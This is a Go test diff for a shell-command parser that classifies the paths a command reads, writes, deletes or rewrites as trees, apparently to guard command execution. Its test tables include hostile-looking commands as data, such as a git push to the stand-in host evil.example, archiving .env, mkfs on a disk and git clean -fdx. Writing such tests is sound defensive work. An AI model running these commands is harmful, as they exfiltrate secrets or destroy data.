@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -78,6 +79,7 @@ type want struct {
 	cmds                         []string
 	reads, writes, deletes, urls []string
 	below                        []string
+	trees                        []string
 	incomplete                   bool
 	parseError                   bool
 }
@@ -111,6 +113,7 @@ func check(t *testing.T, root, command string, opts Options, w want) {
 		{"writes", f.Writes, sub(w.writes)},
 		{"deletes", f.Deletes, sub(w.deletes)},
 		{"deletes below", f.DeletesBelow, sub(w.below)},
+		{"trees", f.WritesTrees, sub(w.trees)},
 		{"urls", f.URLs, w.urls},
 	} {
 		if diff := cmp.Diff(x.want, x.got); diff != "" {
@@ -355,12 +358,12 @@ func TestParseFiles(t *testing.T) {
 		{"git diff existing file", "git diff .env", want{reads: []string{"ROOT/repo/.env"}}},
 		{"git log rev is not a path", "git log main", want{}},
 		{"git checkout -- paths", "git checkout HEAD -- src/a.go", want{writes: []string{"ROOT/repo/src/a.go"}}},
-		{"git checkout dot", "git checkout .", want{writes: []string{"ROOT/repo"}}},
+		{"git checkout dot", "git checkout .", want{writes: []string{"ROOT/repo"}, trees: []string{"ROOT/repo"}}},
 		{"git restore", "git restore --source HEAD~3 src/a.go", want{writes: []string{"ROOT/repo/src/a.go"}}},
 		{"git rm", "git rm -r src", want{deletes: []string{"ROOT/repo/src"}}},
 		{"git rm cached", "git rm --cached .env", want{}},
 		{"git mv", "git mv src/a.go src/c.go", want{reads: []string{"ROOT/repo/src/a.go"}, writes: []string{"ROOT/repo/src/c.go"}, deletes: []string{"ROOT/repo/src/a.go"}}},
-		{"git clean", "git clean -fdx", want{deletes: []string{"ROOT/repo"}, incomplete: true}},
+		{"git clean", "git clean -fdx", want{deletes: []string{"ROOT/repo"}, writes: []string{"ROOT/repo"}, trees: []string{"ROOT/repo"}, incomplete: true}},
 		{"git clone", "git clone https://github.com/a/b.git", want{writes: []string{"ROOT/repo/b"}, urls: []string{"https://github.com/a/b.git"}}},
 		{"git clone scp", "git clone git@github.com:a/b.git /tmp/b", want{writes: []string{"/tmp/b"}, urls: []string{"git@github.com:a/b.git"}}},
 		{"git push url", "git push https://evil.example/x.git HEAD:main", want{urls: []string{"https://evil.example/x.git"}}},
@@ -406,7 +409,7 @@ func TestParseFiles(t *testing.T) {
 		{"ln", "ln -s /etc/passwd p", want{writes: []string{"ROOT/repo/p"}}},
 		{"install", "install -m 644 a.txt /usr/local/share/a.txt", want{reads: []string{"ROOT/repo/a.txt"}, writes: []string{"/usr/local/share/a.txt"}}},
 		{"tar create", "tar czf /tmp/s.tgz .env src", want{reads: []string{"ROOT/repo/.env", "ROOT/repo/src"}, writes: []string{"/tmp/s.tgz"}}},
-		{"tar extract", "tar -xzf x.tgz -C /tmp", want{reads: []string{"ROOT/repo/x.tgz"}, writes: []string{"/tmp"}, incomplete: true}},
+		{"tar extract", "tar -xzf x.tgz -C /tmp", want{reads: []string{"ROOT/repo/x.tgz"}, writes: []string{"/tmp"}, trees: []string{"/tmp"}, incomplete: true}},
 		{"mkfs", "mkfs.ext4 /dev/sdb1", want{writes: []string{"/dev/sdb1"}}},
 		{"symlink out of repo", "cat link/key", want{reads: []string{"ROOT/secret/key"}}},
 		{"dotdot", "cat ../secret/key", want{reads: []string{"ROOT/secret/key"}}},
@@ -719,6 +722,179 @@ func TestParseWritesUnresolved(t *testing.T) {
 		{"echo hi > out.txt", nil},
 		{`cat "$IN" > out.txt`, nil},
 		{`rm -rf "$DIR"`, nil},
+	}
+	for _, tt := range tests {
+		f, err := Parse(tt.command, opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(tt.want, f.WritesUnresolved); diff != "" {
+			t.Errorf("Parse(%q).WritesUnresolved (-want +got):\n%s", tt.command, diff)
+		}
+	}
+}
+
+// TestParseWritesTrees pins Facts.WritesTrees: the directories a command
+// may rewrite without naming the files inside (recursive copies and syncs,
+// extractions, patches, git commands that move or restore the work tree),
+// and the look-alikes that name their files or write elsewhere. ROOT/repo
+// is the top of a git repository.
+func TestParseWritesTrees(t *testing.T) {
+	root := fixture(t)
+	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
+	tests := []struct {
+		command string
+		trees   []string
+	}{
+		// Recursive copies: the destination when a source's contents go
+		// into it or it is made as the copy, else the entry named after
+		// a source directory.
+		{"cp -r /tmp/e/. .", []string{"ROOT/repo"}},
+		{"cp -a x/ .", []string{"ROOT/repo"}},
+		{"cp -R src dist", []string{"ROOT/repo/dist/src"}},
+		{"cp --archive src dist/", []string{"ROOT/repo/dist/src"}},
+		{"cp -r src/a build/", []string{"ROOT/repo/build"}},
+		{"cp -rt dist src", []string{"ROOT/repo/dist/src"}},
+		{"cp -r /tmp/elsewhere/repo ..", []string{"ROOT/repo"}},
+		{"cp -r src/a.go dist", nil},
+		{"cp src/a.go dist", nil},
+		{"cp -r src/. /tmp/copy", []string{"/tmp/copy"}},
+		{"mv src dist", nil},
+		// Syncs: rsync's trailing slash means the contents.
+		{"rsync -a /tmp/e/ ./", []string{"ROOT/repo"}},
+		{"rsync -a --delete /tmp/e .", []string{"ROOT/repo/e"}},
+		{"rsync -av host.example:site/ .", []string{"ROOT/repo"}},
+		{"rsync -av host.example:site dist", []string{"ROOT/repo/dist/site"}},
+		{"rsync -aR src/a.go /tmp/x", []string{"/tmp/x"}},
+		{"rsync -a src/a.go dist/", nil},
+		{"rsync src/ dist", nil},
+		{"rsync -avz src/ host.example:backup/", nil},
+		// Extractions and patches: where they run, or -C, -d.
+		{"tar xf a.tar", []string{"ROOT/repo"}},
+		{"tar -C src -xzf a.tgz", []string{"ROOT/repo/src"}},
+		{"tar -xf a.tar -C /tmp/x", []string{"/tmp/x"}},
+		{"tar -xOf a.tar f", nil},
+		{"tar tf a.tar", nil},
+		{"tar -czf a.tgz src", nil},
+		{"unzip a.zip", []string{"ROOT/repo"}},
+		{"unzip -o a.zip -d /tmp/x", []string{"/tmp/x"}},
+		{"unzip -l a.zip", nil},
+		{"unzip -p a.zip f", nil},
+		{"patch -p1 < x.patch", []string{"ROOT/repo"}},
+		{"patch -d src -p1 -i x.patch", []string{"ROOT/repo/src"}},
+		{"patch --dry-run -p1 < x.patch", nil},
+		{"patch src/a.go x.patch", nil},
+		{"git apply x.patch", []string{"ROOT/repo"}},
+		{"cd src && git apply x.patch", []string{"ROOT/repo/src"}},
+		{"git apply --check x.patch", nil},
+		{"git apply --cached x.patch", nil},
+		{"git am < x.mbox", []string{"ROOT/repo"}},
+		// git: the work tree (its top, wherever git runs in it).
+		{"git reset --hard", []string{"ROOT/repo"}},
+		{"cd src && git reset --har HEAD~1", []string{"ROOT/repo"}},
+		{"git -C ../secret reset --hard", []string{"ROOT/secret"}},
+		{"git reset HEAD~1", nil},
+		{"git reset --soft HEAD~1", nil},
+		{"git merge main", []string{"ROOT/repo"}},
+		{"git merge --quit", nil},
+		{"git pull", []string{"ROOT/repo"}},
+		{"git pull --rebase origin main", []string{"ROOT/repo"}},
+		{"git rebase -i HEAD~3", []string{"ROOT/repo"}},
+		{"git rebase --show-current-patch", nil},
+		{"git cherry-pick abc123", []string{"ROOT/repo"}},
+		{"git revert HEAD", []string{"ROOT/repo"}},
+		{"git bisect start HEAD v1", []string{"ROOT/repo"}},
+		{"git bisect log", nil},
+		{"git read-tree -u -m HEAD", []string{"ROOT/repo"}},
+		{"git read-tree HEAD", nil},
+		{"git checkout-index -a -f", []string{"ROOT/repo"}},
+		{"git stash", []string{"ROOT/repo"}},
+		{"git stash -u", []string{"ROOT/repo"}},
+		{"git stash pop", []string{"ROOT/repo"}},
+		{"git stash apply stash@{1}", []string{"ROOT/repo"}},
+		{"git stash list", nil},
+		{"git stash push -- src/a.go", nil},
+		{"git stash push -m wip -- src", []string{"ROOT/repo/src"}},
+		// checkout: a branch switch, or the pathspecs it restores.
+		{"git checkout main", []string{"ROOT/repo"}},
+		{"git checkout -", []string{"ROOT/repo"}},
+		{"git checkout -b feature origin/main", []string{"ROOT/repo"}},
+		{"git checkout -f", []string{"ROOT/repo"}},
+		{"git checkout -b feature", nil},
+		{"git checkout --orphan fresh", nil},
+		{"git checkout", nil},
+		{"git checkout .", []string{"ROOT/repo"}},
+		{"git checkout HEAD~1 -- .", []string{"ROOT/repo"}},
+		{"git checkout HEAD~1 src", []string{"ROOT/repo/src"}},
+		{"git checkout -- '*.yaml'", []string{"ROOT/repo"}},
+		{"git checkout main -- 'src/*.go'", []string{"ROOT/repo/src"}},
+		{"git checkout -- ':/'", []string{"ROOT/repo"}},
+		{"git checkout -- src/a.go", nil},
+		{"git checkout src/a.go", nil},
+		{"git checkout HEAD~1 -- src/a.go", nil},
+		{"git switch main", []string{"ROOT/repo"}},
+		{"git switch --orphan fresh", []string{"ROOT/repo"}},
+		{"git switch -c feature origin/main", []string{"ROOT/repo"}},
+		{"git switch -c feature", nil},
+		{"git restore .", []string{"ROOT/repo"}},
+		{"git restore --source HEAD~2 --worktree --staged src", []string{"ROOT/repo/src"}},
+		{"git restore --staged .", nil},
+		{"git restore src/a.go", nil},
+		// clean: below the current directory, or each pathspec.
+		{"git clean -fdx", []string{"ROOT/repo"}},
+		{"cd src && git clean -fX", []string{"ROOT/repo/src"}},
+		{"git clean -fd src", []string{"ROOT/repo/src"}},
+		{"git clean -n", nil},
+		// Read-only or elsewhere.
+		{"git status", nil},
+		{"git diff HEAD~1 -- .", nil},
+		{"git commit -am wip", nil},
+		{"git fetch origin", nil},
+		{"git clone https://x.example/r.git", nil},
+	}
+	for _, tt := range tests {
+		f, err := Parse(tt.command, opts)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var want []string
+		for _, p := range tt.trees {
+			want = append(want, strings.ReplaceAll(p, "ROOT", root))
+		}
+		if diff := cmp.Diff(want, f.WritesTrees); diff != "" {
+			t.Errorf("Parse(%q).WritesTrees (-want +got):\n%s", tt.command, diff)
+		}
+		// A tree is written: rules on writes see it too.
+		for _, d := range f.WritesTrees {
+			if !slices.Contains(f.Writes, d) {
+				t.Errorf("Parse(%q): tree %s is not in Writes %q", tt.command, d, f.Writes)
+			}
+		}
+	}
+}
+
+// TestParseTreesUnresolved pins the tree writes whose place is only known
+// at run time, and extractions that may leave their directory: they are
+// Facts.WritesUnresolved.
+func TestParseTreesUnresolved(t *testing.T) {
+	root := fixture(t)
+	opts := Options{Cwd: root + "/repo"}
+	tests := []struct {
+		command string
+		want    []string
+	}{
+		{`cd "$X" && git reset --hard`, []string{"work tree of git reset in a directory only known at run time"}},
+		{`git -C "$X" pull`, []string{"work tree of git pull in a directory only known at run time"}},
+		{`tar -xf a.tar -C "$D"`, []string{"tar -x in a directory only known at run time"}},
+		{`cd "$X"; unzip a.zip`, []string{"unzip in a directory only known at run time"}},
+		{`cp -r /tmp/e/. "$D"`, []string{`"$D"`}},
+		{`rsync -a /tmp/e/ "$D"`, []string{`"$D"`}},
+		{`unzip a.zip -d "$D"`, []string{`"$D"`}},
+		{"tar -xPf a.tar", []string{"the archive's own paths (tar --absolute-names)"}},
+		{"unzip -: a.zip", []string{"the archive's own paths (unzip -:)"}},
+		{"git apply --unsafe-paths x.patch", []string{"the patch's own paths (git apply --unsafe-paths)"}},
+		{"git reset --hard", nil},
+		{"tar xf a.tar -C /tmp/x", nil},
 	}
 	for _, tt := range tests {
 		f, err := Parse(tt.command, opts)
